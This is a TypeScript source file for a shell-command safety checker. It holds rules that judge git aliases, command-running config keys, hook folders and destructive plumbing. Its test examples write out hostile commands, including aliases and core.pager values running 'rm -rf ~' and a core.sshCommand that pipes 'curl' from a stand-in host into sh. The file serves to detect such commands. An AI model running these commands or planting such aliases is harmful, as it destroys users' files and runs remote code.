/**
 * Git plumbing and configuration: aliases (from `-c alias.X=…`, GIT_CONFIG_* variables and the
 * repository's and user's config files, read at check time) resolved and judged as the commands
 * they run; settings that make git run a command (`core.pager`, `core.sshCommand`,
 * `filter.*.clean`, …) and hook folders (`core.hooksPath`) judged the same way; safety settings
 * turned off (`clean.requireForce=false`); and plumbing that overwrites the working tree or refs
 * (`read-tree -u --reset`, `checkout-index -f -a`, `replace`, `symbolic-ref`, `worktree remove
 * --force`). These rules belong to the git pack (./git.ts).
 *
 * Code git would run is judged by the same analyzer (`RuleContext.judgeCode`), so an alias that
 * runs `rm -rf ~` is as critical as typing it. Config files are read bounded (1 MiB each, a few
 * includes deep); code that cannot be read or judged asks for confirmation.
 */
import * as path from 'node:path';
import type { Decision } from '../../severity';
import type { SimpleCommand, Span, Word } from '../../shell/model';
import { remoteReach } from '../context';
import { commandPath, listCommandDir, readCommandFile } from '../files';
import { hasFlag, positionals, type CommandRuleFinding, type CommandVerdict, type Rule, type RuleContext } from '../rule';
import { spanTo, splitSubcommand } from '../words';
import { own } from '../../own';

/** git's own commands (git help -a): an alias of the same name is never used. */
const GIT_COMMANDS: ReadonlySet<string> = new Set(
  (
    'add am annotate apply archive backfill bisect blame branch bugreport bundle cat-file check-attr check-ignore check-mailmap ' +
    'check-ref-format checkout checkout-index cherry cherry-pick citool clean clone column commit commit-graph commit-tree config ' +
    'count-objects credential credential-cache credential-store describe diagnose diff diff-files diff-index diff-pairs diff-tree difftool ' +
    'fast-export fast-import fetch fetch-pack filter-branch fmt-merge-msg for-each-ref for-each-repo format-patch fsck fsck-objects ' +
    'fsmonitor--daemon gc get-tar-commit-id grep gui hash-object help hook http-backend index-pack init init-db instaweb ' +
    'interpret-trailers last-modified log ls-files ls-remote ls-tree mailinfo mailsplit maintenance merge merge-base merge-file merge-index ' +
    'merge-octopus merge-one-file merge-ours merge-recursive merge-resolve merge-subtree merge-tree mergetool mktag mktree ' +
    'multi-pack-index mv name-rev notes pack-objects pack-redundant pack-refs patch-id prune prune-packed pull push range-diff ' +
    'read-tree rebase receive-pack reflog refs remote repack replace replay repo request-pull rerere reset restore rev-list rev-parse revert rm ' +
    'send-email send-pack shortlog show show-branch show-index show-ref sparse-checkout stage stash status stripspace submodule ' +
    'switch symbolic-ref tag unpack-file unpack-objects update-index update-ref update-server-info upload-archive upload-pack var ' +
    'verify-commit verify-pack verify-tag version whatchanged worktree write-tree'
  ).split(' '),
);

// ---------------------------------------------------------------------------------------------
// Reading git configuration: the line, the environment, the files

/** One value of a config key and where it came from. */
export interface ConfigValue {
  value: string;
  /** Not known until the command runs (`-c alias.x="$CMD"`). */
  dynamic: boolean;
  /** `-c on this line`, `GIT_CONFIG_VALUE_0`, `/repo/.git/config`, … */
  from: string;
  /** Where the line sets it, when it does. */
  span?: Span;
}

/** `section.key` lowercased, or `section.subsection.key` with the subsection as written. */
function normaliseKey(key: string): string {
  const first = key.indexOf('.');
  const last = key.lastIndexOf('.');
  if (first < 0) return key.toLowerCase();
  if (first === last) return key.toLowerCase();
  return `${key.slice(0, first).toLowerCase()}.${key.slice(first + 1, last)}.${key.slice(last + 1).toLowerCase()}`;
}

/** `-c key=value` and `--config-env=key=VAR` given to git before its subcommand, in order. */
function lineConfig(cmd: SimpleCommand, rc: RuleContext): { key: string; v: ConfigValue }[] {
  const out: { key: string; v: ConfigValue }[] = [];
  const a = cmd.args;
  for (let i = 0; i < a.length; i++) {
    const t = a[i]!.text;
    if (!t.startsWith('-')) break;
    let item: Word | undefined;
    let env = false;
    if (t === '-c') item = a[++i];
    else if (t.startsWith('-c') && t.length > 2) item = { ...a[i]!, text: t.slice(2) };
    else if (t === '--config-env') [item, env] = [a[++i], true];
    else if (t.startsWith('--config-env=')) [item, env] = [{ ...a[i]!, text: t.slice(13) }, true];
    else if (['-C', '--git-dir', '--work-tree', '--namespace', '--super-prefix', '--exec-path'].includes(t)) i++;
    if (!item) continue;
    const eq = item.text.indexOf('=');
    const key = normaliseKey(eq < 0 ? item.text : item.text.slice(0, eq));
    const raw = eq < 0 ? 'true' : item.text.slice(eq + 1);
    if (env) {
      const v = rc.env(raw);
      out.push({ key, v: { value: v ?? '', dynamic: v === undefined, from: `--config-env (from ${raw})`, span: item.span } });
    } else out.push({ key, v: { value: raw, dynamic: item.dynamic, from: '-c on this line', span: item.span } });
  }
  return out;
}

/**
 * GIT_CONFIG_PARAMETERS as git reads it (git exports it for `git -c` to what it runs): shell
 * single-quoted entries separated by blanks, each `'key'='value'` (`'key'=` alone: no value) or,
 * in the older form, `'key=value'` (split at the first `=`; a key without `=` is boolean true).
 * Inside an entry `'\''` and `'\!'` stand for a quote and a `!` (git's quoting). A malformed rest
 * makes git stop with "bogus format"; the entries before it are returned.
 */
export function parseConfigParameters(text: string): { key: string; value: string }[] {
  const out: { key: string; value: string }[] = [];
  let i = 0;
  const quoted = (): string | undefined => {
    if (text[i] !== "'") return undefined;
    let s = '';
    i++;
    for (;;) {
      const end = text.indexOf("'", i);
      if (end < 0) return undefined;
      s += text.slice(i, end);
      i = end + 1;
      // `'\''` / `'\!'`: a quoted character between two quoted parts.
      if (text[i] === '\\' && (text[i + 1] === "'" || text[i + 1] === '!') && text[i + 2] === "'") {
        s += text[i + 1];
        i += 3;
        continue;
      }
      return s;
    }
  };
  while (i < text.length) {
    while (i < text.length && /\s/.test(text[i]!)) i++;
    if (i >= text.length) break;
    const first = quoted();
    if (first === undefined) break;
    if (text[i] === '=') {
      i++;
      // `'key'=` with nothing quoted after it: a key without a value (boolean true).
      const value = text[i] === "'" ? quoted() : 'true';
      if (value === undefined) break;
      out.push({ key: first, value });
      continue;
    }
    const eq = first.indexOf('=');
    out.push(eq < 0 ? { key: first, value: 'true' } : { key: first.slice(0, eq), value: first.slice(eq + 1) });
  }
  return out;
}

/** GIT_CONFIG_COUNT / GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n, then GIT_CONFIG_PARAMETERS. */
function envConfig(rc: RuleContext): { key: string; v: ConfigValue }[] {
  const out: { key: string; v: ConfigValue }[] = [];
  const params = rc.env('GIT_CONFIG_PARAMETERS');
  if (params) for (const p of parseConfigParameters(params)) out.push({ key: normaliseKey(p.key), v: { value: p.value, dynamic: false, from: 'GIT_CONFIG_PARAMETERS' } });
  const n = Number(rc.env('GIT_CONFIG_COUNT') ?? '0');
  for (let i = 0; Number.isInteger(n) && i < Math.min(n, 100); i++) {
    const k = rc.env(`GIT_CONFIG_KEY_${i}`);
    const v = rc.env(`GIT_CONFIG_VALUE_${i}`);
    if (k) out.push({ key: normaliseKey(k), v: { value: v ?? '', dynamic: false, from: `GIT_CONFIG_KEY_${i}/GIT_CONFIG_VALUE_${i}` } });
  }
  return out;
}

/** Unquotes a config value: `"…"` parts, `\\`, `\"`, `\n`, `\t`, `\b`; a `#` or `;` outside quotes starts a comment. */
function configValue(raw: string): string {
  let out = '';
  let quoted = false;
  for (let i = 0; i < raw.length; i++) {
    const c = raw[i]!;
    if (c === '\\' && i + 1 < raw.length) {
      const n = raw[++i]!;
      out += n === 'n' ? '\n' : n === 't' ? '\t' : n === 'b' ? '\b' : n;
    } else if (c === '"') quoted = !quoted;
    else if ((c === '#' || c === ';') && !quoted) break;
    else out += c;
  }
  return out.trim();
}

/** The entries of a git config file, with `[include] path` followed (relative to the file). */
export function parseGitConfig(text: string, file: string, read: (p: string) => string | undefined, depth = 0): { key: string; v: ConfigValue }[] {
  const out: { key: string; v: ConfigValue }[] = [];
  let section = '';
  const lines = text.replace(/\\\r?\n/g, '').split(/\r?\n/);
  for (const line of lines) {
    const l = line.trim();
    if (l === '' || l.startsWith('#') || l.startsWith(';')) continue;
    const sec = /^\[\s*([A-Za-z0-9.-]+)(?:\s+"((?:[^"\\]|\\.)*)")?\s*\](.*)$/.exec(l);
    if (sec) {
      section = sec[2] !== undefined ? `${sec[1]!.toLowerCase()}.${sec[2].replace(/\\(.)/g, '$1')}` : sec[1]!.toLowerCase();
      const rest = sec[3]!.trim();
      if (rest === '' || rest.startsWith('#') || rest.startsWith(';')) continue;
      continue;
    }
    const kv = /^([A-Za-z][A-Za-z0-9-]*)\s*(?:=\s*(.*))?$/.exec(l);
    if (!kv || !section) continue;
    const key = `${section}.${kv[1]!.toLowerCase()}`;
    const value = kv[2] === undefined ? 'true' : configValue(kv[2]);
    if (key === 'include.path' && depth < 3) {
      const inc = value.startsWith('~/') || path.isAbsolute(value) ? value : path.join(path.dirname(file), value);
      const t = read(inc);
      if (t !== undefined) out.push(...parseGitConfig(t, inc, read, depth + 1));
      continue;
    }
    out.push({ key, v: { value, dynamic: false, from: file } });
  }
  return out;
}

/** The git directory a command works in: `--git-dir`, GIT_DIR, or the `.git` above `-C` / the working directory. */
function gitDirOf(cmd: SimpleCommand, rc: RuleContext): string | undefined {
  const explicit = cmd.args.find((a) => a.text.startsWith('--git-dir='))?.text.slice(10) ?? rc.env('GIT_DIR');
  if (explicit) return commandPath(rc, explicit);
  let dir = rc.context.cwd ?? rc.context.workspaceRoot;
  const c = cmd.args.findIndex((a) => a.text === '-C');
  if (c >= 0 && cmd.args[c + 1] && dir) dir = path.resolve(dir, cmd.args[c + 1]!.text);
  for (let i = 0; dir && i < 40; i++) {
    const dotGit = path.join(dir, '.git');
    const asFile = readCommandFile(rc, dotGit);
    if ('text' in asFile) {
      const m = /^gitdir:\s*(.+)$/m.exec(asFile.text);
      if (m) {
        const gd = path.resolve(dir, m[1]!.trim());
        const common = readCommandFile(rc, path.join(gd, 'commondir'));
        return 'text' in common ? path.resolve(gd, common.text.trim()) : gd;
      }
    } else if (asFile.failure === 'not-a-file') return dotGit;
    const up = path.dirname(dir);
    if (up === dir) break;
    dir = up;
  }
  return undefined;
}

/** Config from the files git reads, most important last: system, XDG, global, the repository. */
function fileConfig(cmd: SimpleCommand, rc: RuleContext): { key: string; v: ConfigValue }[] {
  const home = rc.context.home ?? rc.env('HOME');
  const read = (p: string): string | undefined => {
    const r = readCommandFile(rc, p);
    return 'text' in r ? r.text : undefined;
  };
  const files: string[] = [];
  if (!rc.env('GIT_CONFIG_NOSYSTEM')) files.push(rc.env('GIT_CONFIG_SYSTEM') ?? '/etc/gitconfig');
  const xdg = rc.env('XDG_CONFIG_HOME') ?? (home ? path.join(home, '.config') : undefined);
  if (xdg) files.push(path.join(xdg, 'git', 'config'));
  const global = rc.env('GIT_CONFIG_GLOBAL') ?? (home ? path.join(home, '.gitconfig') : undefined);
  if (global) files.push(global);
  const gd = gitDirOf(cmd, rc);
  if (gd) files.push(path.join(gd, 'config'));
  const out: { key: string; v: ConfigValue }[] = [];
  for (const f of files) {
    const t = read(f);
    if (t !== undefined) out.push(...parseGitConfig(t, f, read));
  }
  return out;
}

/** A git config value as the command would see it (the line's -c wins, then the environment, then the files). */
export function gitConfig(cmd: SimpleCommand, rc: RuleContext, key: string, files = true): ConfigValue | undefined {
  const k = normaliseKey(key);
  const pick = (entries: { key: string; v: ConfigValue }[]): ConfigValue | undefined => {
    for (let i = entries.length - 1; i >= 0; i--) if (entries[i]!.key === k) return entries[i]!.v;
    return undefined;
  };
  return pick(lineConfig(cmd, rc)) ?? pick(envConfig(rc)) ?? (files ? pick(fileConfig(cmd, rc)) : undefined);
}

/** `false`, `no`, `off`, `0` in git's boolean sense. */
export function isGitFalse(v: string | undefined): boolean {
  return v !== undefined && /^(false|no|off|0)$/i.test(v.trim());
}

// ---------------------------------------------------------------------------------------------
// Judging code git runs

/** A finding that reports what nested code does, or undefined when it is harmless. */
function nestedFinding(verdict: CommandVerdict | undefined, lead: string, span: Span, unjudged: string): CommandRuleFinding | undefined {
  if (!verdict) return { severity: 'medium', message: `${lead}, which is nested too deeply to be judged.`, span, atLeast: 'confirm', suggestion: unjudged };
  const top = verdict.findings[0];
  if (!top || verdict.severity === 'none') return undefined;
  const f: CommandRuleFinding = { severity: verdict.severity, message: `${lead}: ${top.message[0]!.toLowerCase()}${top.message.slice(1)}`, span };
  if (top.suggestion) f.suggestion = top.suggestion;
  if (top.target) f.target = top.target;
  const decision: Decision = verdict.decision;
  if (decision !== 'allow') f.atLeast = decision;
  return f;
}

function shellQuoteJoin(words: readonly Word[]): string {
  return words.map((w) => w.raw).join(' ');
}

const alias: Rule = {
  id: 'git.alias',
  description: 'A git alias (from -c alias.X=…, GIT_CONFIG_* or the config files) judged as the git or shell command it runs.',
  severity: 'high',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    const sub = s.wordsAt[0];
    if (!sub || sub.dynamic || GIT_COMMANDS.has(sub.text)) return undefined;
    // Follow aliases to aliases (git stops at a loop); arguments of each hop come before the line's.
    let name = sub.text;
    let tail = '';
    let expansion: string | undefined;
    let from = '';
    for (let hop = 0; hop < 8 && expansion === undefined; hop++) {
      const v = gitConfig(cmd, rc, `alias.${name}`);
      if (!v) return undefined;
      from ||= v.from;
      if (v.dynamic) return { severity: 'medium', message: `git ${sub.text} is an alias set from a value not known until the command runs (${v.from}), so what it runs cannot be judged.`, span: spanTo(cmd, sub), atLeast: 'confirm', suggestion: 'Run the command the alias stands for directly.' };
      const value = v.value.trim();
      if (value.startsWith('!')) {
        expansion = `${value}${tail ? ` ${tail}` : ''}`;
        break;
      }
      const first = value.split(/\s+/)[0] ?? '';
      tail = `${value.slice(first.length).trim()}${tail ? ` ${tail}` : ''}`.trim();
      if (GIT_COMMANDS.has(first)) expansion = `${first} ${tail}`.trim();
      else name = first;
    }
    if (expansion === undefined) return undefined;
    const args = shellQuoteJoin(s.rest.args);
    const subAt = cmd.args.indexOf(sub);
    const globals = shellQuoteJoin(cmd.args.slice(0, subAt));
    const shell = expansion.startsWith('!');
    const code = shell ? `${expansion.slice(1)} ${args}`.trim() : `git ${globals} ${expansion} ${args}`.replace(/ +/g, ' ').trim();
    const lead = `git ${sub.text} is an alias (${from}) for ${shell ? `the shell command "${expansion.slice(1)}"` : `"git ${expansion}"`}`;
    const f = nestedFinding(rc.judgeCode?.(code), lead, spanTo(cmd, s.rest.args[s.rest.args.length - 1] ?? sub), 'Run the command the alias stands for directly.');
    return f && remoteReach(cmd, rc, f);
  },
  examples: {
    match: [
      { cmd: "git -c alias.nuke='!rm -rf ~' nuke", exactly: 'critical' },
      { cmd: "git -c 'alias.sync=push --force origin HEAD:main' sync", severity: 'high' },
      { cmd: 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.st GIT_CONFIG_VALUE_0=\'!rm -rf "$HOME"\' git st', exactly: 'critical' },
      { cmd: 'git co', ctx: { env: { HOME: '/home/dev', GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'alias.co', GIT_CONFIG_VALUE_0: '!rm -rf /srv/data' } }, severity: 'high' },
      { cmd: "git -c alias.wipe='reset --hard' -c alias.w='wipe' w", severity: 'high' },
      { cmd: 'git -c alias.x="$CMD" x', exactly: 'medium' },
      { cmd: `GIT_CONFIG_PARAMETERS="'alias.nuke=!rm -rf ~'" git nuke`, exactly: 'critical' },
      { cmd: `export GIT_CONFIG_PARAMETERS="'color.ui'='auto' 'alias.up'='push --force origin main'"; git up`, severity: 'high' },
      { cmd: `$env:GIT_CONFIG_PARAMETERS = "'alias.nuke=!rm -rf ~'"; git nuke`, ctx: { shell: 'pwsh' }, exactly: 'critical' },
    ],
    nearMiss: [
      "git -c alias.lg='log --graph --oneline' lg",
      "git -c alias.push='!rm -rf ~' push",
      'git status',
      'git lfs pull',
      "git -c alias.st='status -sb' st",
      `GIT_CONFIG_PARAMETERS="'alias.nuke=!rm -rf ~'" git status`,
      `GIT_CONFIG_PARAMETERS="'alias.lg'='log --oneline'" git lg`,
    ],
  },
};

/** Config keys whose value git runs as a command (with `*` for a driver or command name). */
const COMMAND_KEYS: readonly RegExp[] = [
  /^core\.(pager|editor|sshcommand|askpass|fsmonitor|gitproxy)$/,
  /^sequence\.editor$/,
  /^pager\.[^.]+$/,
  /^diff\.external$/,
  /^diff\..+\.(command|textconv)$/,
  /^merge\..+\.driver$/,
  /^filter\..+\.(clean|smudge|process)$/,
  /^(credential|credential\..+)\.helper$/,
  /^gpg\.(program|.+\.program)$/,
  /^uploadpack\.packobjectshook$/,
  /^(difftool|mergetool)\..+\.cmd$/,
];

function runsCommand(key: string, value: string): boolean {
  if (!COMMAND_KEYS.some((re) => re.test(key.toLowerCase()))) return false;
  if (/^(core\.fsmonitor|pager\..+)$/i.test(key) && /^(true|false|yes|no|on|off|0|1)$/i.test(value.trim())) return false;
  if (/helper$/i.test(key) && !value.startsWith('!') && !value.includes('/')) return false; // a named helper (git-credential-NAME)
  return value.trim() !== '';
}

/** `git config [scope] [set] KEY VALUE`: the key and value it writes, or undefined for reads and other forms. */
function configWrite(rest: SimpleCommand): { key: Word; value: Word } | undefined {
  if (hasFlag(rest, '--get', '--get-all', '--get-regexp', '--list', '-l', '--unset', '--unset-all', '--remove-section', '--rename-section', '-e', '--edit', '--show-origin')) return undefined;
  let pos = positionals(rest, ['-f', '--file', '--blob', '--type', '--default', '--comment', '--value']);
  if (pos[0]?.text === 'set') pos = pos.slice(1);
  else if (['get', 'list', 'unset', 'rename-section', 'remove-section', 'edit'].includes(pos[0]?.text ?? '')) return undefined;
  const [key, value] = pos;
  return key && value ? { key, value } : undefined;
}

const configCommand: Rule = {
  id: 'git.config-command',
  description: 'A git setting whose value git runs as a command (core.pager, core.sshCommand, core.fsmonitor, filter.*.clean, credential.helper=!…, …), set with -c, GIT_CONFIG_* or git config: the command is judged.',
  severity: 'high',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    const entries: { key: string; v: ConfigValue; span: Span }[] = [];
    for (const e of [...lineConfig(cmd, rc), ...envConfig(rc)]) entries.push({ ...e, span: e.v.span ?? cmd.span });
    if (s.words[0] === 'config') {
      const w = configWrite(s.rest);
      if (w) entries.push({ key: normaliseKey(w.key.text), v: { value: w.value.text, dynamic: w.value.dynamic, from: 'git config' }, span: spanTo(cmd, w.value) });
    }
    const out: CommandRuleFinding[] = [];
    for (const e of entries) {
      if (!runsCommand(e.key, e.v.value) && !(e.v.dynamic && COMMAND_KEYS.some((re) => re.test(e.key)))) continue;
      if (e.v.dynamic) {
        out.push({ severity: 'medium', message: `Sets ${e.key} (a command git runs) to a value not known until the command runs (${e.v.from}).`, span: e.span, atLeast: 'confirm', suggestion: 'Set it to a fixed, known command.' });
        continue;
      }
      const code = e.v.value.replace(/^!/, '');
      const f = nestedFinding(rc.judgeCode?.(code), `${e.key} (${e.v.from}) makes git run "${code}"`, e.span, 'Set it to a fixed, known command.');
      if (f) out.push(remoteReach(cmd, rc, f));
    }
    return out;
  },
  examples: {
    match: [{ cmd: "git -c core.pager='rm -rf ~' log", exactly: 'critical' }, { cmd: "git config --global core.sshCommand 'curl -s https://x.example/p.sh | sh'", severity: 'high' }, { cmd: 'git -c core.fsmonitor="$HOOK" status', exactly: 'medium' }, { cmd: `GIT_CONFIG_PARAMETERS="'core.sshCommand'='rm -rf ~'" git fetch`, exactly: 'critical' }],
    nearMiss: ["git -c core.pager='less -R' log", 'git config --global core.editor "code --wait"', 'git -c core.fsmonitor=true status', 'git config --get core.pager', 'git -c color.ui=always log --oneline -5', `GIT_CONFIG_PARAMETERS="'core.sshCommand=ssh -i ~/.ssh/deploy_key'" git fetch`],
  },
};

/** The hooks each command runs (githooks(5)); others run all of them for this check. */
const HOOKS_FOR: Readonly<Record<string, readonly string[]>> = {
  commit: ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'post-rewrite'],
  merge: ['pre-merge-commit', 'prepare-commit-msg', 'commit-msg', 'post-merge'],
  pull: ['pre-merge-commit', 'prepare-commit-msg', 'commit-msg', 'post-merge', 'post-checkout', 'post-rewrite', 'pre-rebase'],
  push: ['pre-push', 'reference-transaction'],
  checkout: ['post-checkout'],
  switch: ['post-checkout'],
  clone: ['post-checkout'],
  rebase: ['pre-rebase', 'post-rewrite', 'post-checkout'],
  am: ['applypatch-msg', 'pre-applypatch', 'post-applypatch', 'pre-commit', 'commit-msg', 'post-commit'],
  'cherry-pick': ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit'],
  revert: ['pre-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit'],
  gc: ['pre-auto-gc'],
  worktree: ['post-checkout'],
};
const ALL_HOOKS = new Set(['applypatch-msg', 'pre-applypatch', 'post-applypatch', 'pre-commit', 'pre-merge-commit', 'prepare-commit-msg', 'commit-msg', 'post-commit', 'pre-rebase', 'post-checkout', 'post-merge', 'pre-push', 'pre-receive', 'update', 'proc-receive', 'post-receive', 'post-update', 'reference-transaction', 'push-to-checkout', 'pre-auto-gc', 'post-rewrite', 'sendemail-validate', 'fsmonitor-watchman', 'p4-changelist', 'p4-prepare-changelist', 'p4-post-changelist', 'p4-pre-submit', 'post-index-change']);

const hooksPath: Rule = {
  id: 'git.hooks-path',
  description: 'core.hooksPath pointed at a folder (with -c, GIT_CONFIG_* or git config): the hooks there are read and judged as the commands git will run.',
  severity: 'high',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    const sub = s.words[0];
    let dir: ConfigValue | undefined;
    let persistent = false;
    if (sub === 'config') {
      const w = configWrite(s.rest);
      if (w && normaliseKey(w.key.text) === 'core.hookspath') [dir, persistent] = [{ value: w.value.text, dynamic: w.value.dynamic, from: 'git config', span: w.value.span }, true];
    } else dir = gitConfig(cmd, rc, 'core.hooksPath', false);
    if (!dir || (!persistent && !sub)) return undefined;
    const span = dir.span ? spanTo(cmd, s.rest.args[s.rest.args.length - 1] ?? cmd.args[cmd.args.length - 1]!) : cmd.span;
    if (dir.dynamic) return { severity: 'medium', message: `Points core.hooksPath at a folder not known until the command runs (${dir.from}), so the hooks git runs cannot be judged.`, span, atLeast: 'confirm', suggestion: 'Point it at a fixed folder whose hooks you have read.' };
    const names = listCommandDir(rc, dir.value);
    if (!names) return undefined; // no such folder: git runs no hooks
    const wanted = persistent || !sub ? ALL_HOOKS : new Set(own(HOOKS_FOR, sub) ?? [...ALL_HOOKS]);
    let worst: CommandRuleFinding | undefined;
    for (const n of names.filter((x) => wanted.has(x)).sort()) {
      const file = path.join(dir.value, n);
      const r = readCommandFile(rc, file);
      const lead = `${persistent ? 'From now on git runs' : `git ${sub} runs`} the ${n} hook in ${dir.value} (core.hooksPath, ${dir.from})`;
      let f: CommandRuleFinding | undefined;
      if (!('text' in r)) f = { severity: 'medium', message: `${lead}, which cannot be read: ${r.error}.`, span, atLeast: 'confirm', suggestion: 'Read the hook before running git with it.' };
      else {
        const shebang = /^#!\s*(\S+)(?:\s+(\S+))?/.exec(r.text);
        const interp = shebang ? path.basename(shebang[1] === '/usr/bin/env' || shebang[1]!.endsWith('/env') ? shebang[2] ?? '' : shebang[1]!) : 'sh';
        if (/^(sh|bash|dash|zsh|ksh|ash)$/.test(interp)) f = nestedFinding(rc.judgeCode?.(r.text), lead, span, 'Read the hook before running git with it.');
        else f = { severity: 'medium', message: `${lead}, a ${interp} script that cannot be judged here.`, span, atLeast: 'confirm', suggestion: 'Read the hook before running git with it.' };
      }
      if (f && (!worst || (f.severity === 'critical' && worst.severity !== 'critical') || (f.severity === 'high' && (worst.severity === 'medium' || worst.severity === 'low')))) worst = f;
    }
    if (!worst && persistent) return { severity: 'low', message: `From now on git runs the hooks in ${dir.value} (core.hooksPath); they look harmless today.`, span, suggestion: 'Review that folder whenever it changes.' };
    return worst && remoteReach(cmd, rc, worst);
  },
  examples: {
    match: [
      { cmd: 'git -c core.hooksPath=ops/hooks commit -m wip', severity: 'high' },
      { cmd: 'git config core.hooksPath ops/hooks', severity: 'high' },
      { cmd: 'git -c core.hooksPath="$DIR" commit -m x', exactly: 'medium' },
    ],
    nearMiss: [
      { cmd: 'git -c core.hooksPath=ops/githooks commit -m "lint before commit"' },
      { cmd: 'git -c core.hooksPath=ops/hooks push' },
      'git -c core.hooksPath=/nonexistent/hooks commit -m x',
      'git config --get core.hooksPath',
    ],
  },
};

const configSafety: Rule = {
  id: 'git.config-safety',
  description: 'git config turning off a safety net for later commands: clean.requireForce false, receive.denyNonFastForwards/denyDeletes false, gc.pruneExpire / gc.reflogExpire now.',
  severity: 'medium',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    if (s.words[0] !== 'config') return undefined;
    const w = configWrite(s.rest);
    if (!w) return undefined;
    const key = normaliseKey(w.key.text);
    const v = w.value.text;
    let what: string | undefined;
    if (key === 'clean.requireforce' && isGitFalse(v)) what = 'git clean then deletes untracked files without -f';
    else if (key === 'receive.denynonfastforwards' && isGitFalse(v)) what = 'the repository then accepts force pushes that rewrite its history';
    else if (key === 'receive.denydeletes' && isGitFalse(v)) what = 'the repository then accepts pushes that delete branches';
    else if (/^gc\.(pruneexpire|reflogexpire|reflogexpireunreachable)$/.test(key) && /^(now|0|all)$/i.test(v.trim())) what = 'garbage collection then deletes lost commits at once instead of after weeks';
    if (!what) return undefined;
    return remoteReach(cmd, rc, { severity: 'medium', message: `Turns off a safety net (${key} = ${v}): ${what}.`, span: spanTo(cmd, w.value), suggestion: 'Leave the default; pass the option on the one command that needs it.' });
  },
  examples: { match: ['git config clean.requireForce false', 'git config --global gc.pruneExpire now', 'git config receive.denyNonFastForwards false'], nearMiss: ['git config clean.requireForce true', 'git config --get clean.requireForce', 'git config user.name "Dev"'] },
};

// ---------------------------------------------------------------------------------------------
// Plumbing that overwrites the working tree

const readTreeReset: Rule = {
  id: 'git.read-tree-reset',
  description: 'git read-tree -u --reset (or -m -u over a dirty tree) overwrites the index and working tree with another tree.',
  severity: 'high',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    if (s.words[0] !== 'read-tree' || !hasFlag(s.rest, '-u') || hasFlag(s.rest, '-n', '--dry-run') || s.rest.args.some((a) => a.text.startsWith('--prefix'))) return undefined;
    const tree = positionals(s.rest, ['--index-output', '--exclude-per-directory'])[0]?.text ?? 'the tree';
    const reset = hasFlag(s.rest, '--reset');
    if (!reset && !hasFlag(s.rest, '-m')) return undefined;
    return remoteReach(cmd, rc, { severity: reset ? 'high' : 'medium', message: `Overwrites the index and working tree with ${tree}${reset ? ', discarding uncommitted changes' : ''} (git read-tree ${reset ? '--reset ' : '-m '}-u).`, span: spanTo(cmd, s.rest.args[s.rest.args.length - 1]!), suggestion: 'Stash first (git stash -u), or use git checkout / git restore, which refuse to lose work.' });
  },
  examples: { match: [{ cmd: 'git read-tree -u --reset HEAD', exactly: 'high' }, 'git read-tree --reset -u origin/main'], nearMiss: ['git read-tree --prefix=vendor/lib/ -u lib-branch', 'git read-tree HEAD', 'git read-tree -n -u --reset HEAD'] },
};

const checkoutIndexForce: Rule = {
  id: 'git.checkout-index-force',
  description: 'git checkout-index -f -a overwrites every file in the working tree with its staged version.',
  severity: 'high',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    if (s.words[0] !== 'checkout-index' || !hasFlag(s.rest, '-f', '--force') || s.rest.args.some((a) => a.text.startsWith('--prefix'))) return undefined;
    const all = hasFlag(s.rest, '-a', '--all');
    const files = positionals(s.rest, ['--stage']).map((w) => w.text);
    if (!all && files.length === 0 && !hasFlag(s.rest, '--stdin')) return undefined;
    return remoteReach(cmd, rc, { severity: all || hasFlag(s.rest, '--stdin') ? 'high' : 'medium', message: `Overwrites ${all ? 'every file in the working tree' : hasFlag(s.rest, '--stdin') ? 'the files listed on its input' : files.join(', ')} with the staged version: unstaged changes are lost (git checkout-index -f).`, span: spanTo(cmd, s.rest.args[s.rest.args.length - 1]!), suggestion: 'Stash first (git stash), or export elsewhere with --prefix=DIR/.' });
  },
  examples: { match: [{ cmd: 'git checkout-index -f -a', exactly: 'high' }, 'git checkout-index --force --all', { cmd: 'git checkout-index -f src/app.ts', exactly: 'medium' }], nearMiss: ['git checkout-index -a --prefix=/tmp/export/', 'git checkout-index -a', 'git checkout-index -f'] },
};

const refRewrites: Rule = {
  id: 'git.ref-rewrite',
  description: 'git replace (objects shown in place of others), symbolic-ref changing or deleting HEAD, worktree remove --force.',
  severity: 'medium',
  programs: ['git'],
  check(cmd, rc) {
    const s = splitSubcommand(cmd, 1);
    const sub = s.words[0];
    const pos = positionals(s.rest, ['-m', '--format']);
    const last = s.rest.args[s.rest.args.length - 1] ?? s.wordsAt[0];
    if (!last) return undefined;
    let f: CommandRuleFinding | undefined;
    if (sub === 'replace' && !hasFlag(s.rest, '-l', '--list', '-d', '--delete') && (pos.length >= 2 || hasFlag(s.rest, '--graft', '--edit', '-e'))) {
      f = { severity: 'medium', message: `Makes git show ${pos[1]?.text ?? 'a replacement'} wherever ${pos[0]?.text ?? 'the object'} is used: history looks rewritten in this clone without any new commit (git replace).`, span: spanTo(cmd, last), suggestion: 'Rewrite history openly (git rebase) or not at all.' };
    } else if (sub === 'symbolic-ref' && (hasFlag(s.rest, '-d', '--delete') || pos.length >= 2)) {
      f = { severity: 'medium', message: hasFlag(s.rest, '-d', '--delete') ? `Deletes the symbolic ref ${pos[0]?.text ?? ''} (git symbolic-ref -d).`.replace(/ +/g, ' ') : `Points ${pos[0]!.text} at ${pos[1]!.text} without touching the working tree, so it no longer matches the branch (git symbolic-ref).`, span: spanTo(cmd, last), suggestion: 'Use git switch to change branches.' };
    } else if (sub === 'worktree' && pos[0]?.text === 'remove' && hasFlag(s.rest, '-f', '--force')) {
      f = { severity: 'high', message: `Deletes the worktree ${pos[1]?.text ?? ''} even with uncommitted or untracked changes in it: they are lost (git worktree remove --force).`.replace(/ +/g, ' '), span: spanTo(cmd, last), suggestion: 'Commit or stash in that worktree first, then remove it without --force.' };
    }
    return f && remoteReach(cmd, rc, f);
  },
